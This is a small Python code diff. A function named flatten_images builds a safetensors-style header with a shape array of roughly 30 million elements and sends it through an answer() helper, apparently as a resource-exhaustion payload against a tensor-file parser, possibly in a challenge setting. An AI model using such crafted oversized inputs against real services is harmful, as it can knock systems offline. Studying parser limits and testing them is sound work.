@@ -16,6 +16,6 @@ def answer(skeleton, block=b""):
 
 
 def flatten_images(images):
-    header = b'{"0":{"dtype":"F32","shape":[' + b",".join([b"1"] * (25 << 20)) + b'],"data_offsets":[0,4]}}'
+    header = b'{"0":{"dtype":"F32","shape":[' + b"1," * (29 << 20) + b'1],"data_offsets":[0,4]}}'
     value = b'{"d":[[{"s":"value"},{"t":"0"}]]}'
     answer(value, struct.pack("<Q", len(header)) + header + bytes(4))
